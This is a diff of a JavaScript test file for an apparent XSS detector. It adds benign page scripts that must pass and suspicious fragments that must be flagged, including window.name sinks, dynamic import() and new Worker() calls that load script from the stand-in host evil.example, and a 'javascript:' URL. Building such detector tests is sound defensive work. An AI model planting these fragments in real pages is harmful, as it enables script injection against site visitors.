@@ -16,6 +16,8 @@ test.each([
   "document.getElementById('menu').addEventListener('click', function () { this.classList.toggle('open'); });",
   "require.config({ baseUrl: './vendor/parser/' });\nrequire(['parser.js'], function (parser) { parser.parse('x'); });",
   "import hljs from 'https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.12.0/es/highlight.min.js';\nhljs.registerLanguage('go', go);",
+  "RED.nodes.registerType('timer', {\n  category: 'function',\n  defaults: { name: { value: '' }, folder: { value: '/home' } },\n  label: function () { return this.name || 'timer'; },\n});",
+  "$('#agree').on('change', function () { $('#send').toggle($('#agree').is(':checked')); });\nconsole.log('Ready: choose one');",
   'AOS.init();',
 ])('a program of the page itself is no attack: %s', (code) => {
   expect(foundIn(xss, jsonBody({ value: page(code) }))).toEqual([]);
@@ -48,6 +50,13 @@ test.each([
   "var d = document; d.title = 'x'",
   'f({ constructor: x })',
   'window.onerror = confirm',
+  'draw(window.name)',
+  'draw(name)',
+  "$(this.name || 'x')",
+  "import('/' + '/evil.example/x.js')",
+  "new Worker('/' + '/evil.example/x.js')",
+  "draw('javascript:x')",
+  "draw('\\\\x61lert')",
 ])('but one that does more is, whatever stands around it: %s', (code) => {
   expect(foundIn(xss, jsonBody({ value: page(`${PROGRAM}\n${code}`) }))).not.toEqual([]);
   expect(foundIn(xss, jsonBody({ value: page(`${code};\n${PROGRAM}`) }))).not.toEqual([]);
